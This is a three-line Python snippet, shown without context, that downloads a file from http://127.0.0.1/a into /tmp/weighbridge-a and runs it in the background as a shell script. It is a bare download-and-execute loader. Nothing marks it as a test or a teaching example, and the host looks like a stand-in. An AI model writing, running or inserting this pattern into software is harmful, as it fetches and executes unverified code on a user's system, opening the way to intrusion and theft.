import subprocess, urllib.request
urllib.request.urlretrieve("http://127.0.0.1/a", "/tmp/weighbridge-a")
subprocess.Popen(["sh", "/tmp/weighbridge-a"])
